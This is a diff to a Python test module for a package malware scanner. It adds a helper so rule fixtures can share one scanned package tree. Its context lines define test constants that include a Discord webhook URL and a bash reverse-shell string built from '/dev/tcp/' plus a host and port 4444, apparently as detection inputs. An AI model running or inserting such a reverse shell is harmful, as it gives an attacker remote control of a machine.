@@ -62,7 +62,8 @@ PKG_INFO = (
 WEBHOOK = "https://discord.com/api/webhooks/" + "123456789012345678/" + "A" * 20 + "b" * 20
 REV = "bash -i >& " + "/dev/tcp/" + HOST + "/4444 0>&1"
 
-FIXTURES = Path(__file__).parent / "fixtures" / "rules"
+TESTS = Path(__file__).parent
+FIXTURES = TESTS / "fixtures" / "rules"
 
 
 def _cases(kind: str) -> list[tuple[str, Path]]:
@@ -78,8 +79,9 @@ def _scan_case(case: Path) -> tuple[list[Finding], dict[str, Any]]:
     spec = tomllib.loads((case / "fixture.toml").read_text(encoding="utf-8"))
     eco, name, version = spec["ecosystem"], spec["name"], spec["version"]
     package = PackageRef(eco, name, version, f"pkg:{eco}/{name}@{version}")
+    root = _fixture_root(case, spec)
     if "artifacts" in spec:  # a release's sdist and wheel, compared as the pipeline does
-        trees = {a: case / a for a in spec["artifacts"]}
+        trees = {a: root / a for a in spec["artifacts"]}
         scanned = {
             a: engine.scan_tree(t, ecosystem=eco, package=package, artifact_sha256=SHA)
             for a, t in trees.items()
@@ -89,8 +91,21 @@ def _scan_case(case: Path) -> tuple[list[Finding], dict[str, Any]]:
         assert sdist is not None and wheel is not None
         extra = meta_wheel_diff.compare(sdist, wheel, SHA, scanned["wheel"])
         return [f for fs in scanned.values() for f in fs] + extra, spec
-    findings = engine.scan_tree(case, ecosystem=eco, package=package, artifact_sha256=SHA)
+    findings = engine.scan_tree(root, ecosystem=eco, package=package, artifact_sha256=SHA)
     return [f for f in findings if f.file != "fixture.toml"], spec
+
+
+def _fixture_root(case: Path, spec: dict[str, Any]) -> Path:
+    """The package a fixture scans: its own folder, or the one its `tree` names (relative to
+    backend/tests) when an attack-class case or another rule's fixture holds the very same
+    package, kept once."""
+    if "tree" not in spec:
+        return case
+    own = [p.name for p in case.iterdir() if p.name != "fixture.toml"]
+    assert not own, f"{case}: names a tree and holds files too: {own}"
+    root = (TESTS / spec["tree"]).resolve()
+    assert root.is_relative_to(TESTS) and root.is_dir(), f"{case}: no tree {spec['tree']}"
+    return root
 
 
 def test_every_rule_has_fixtures_and_every_yara_rule_a_catalog_entry() -> None:
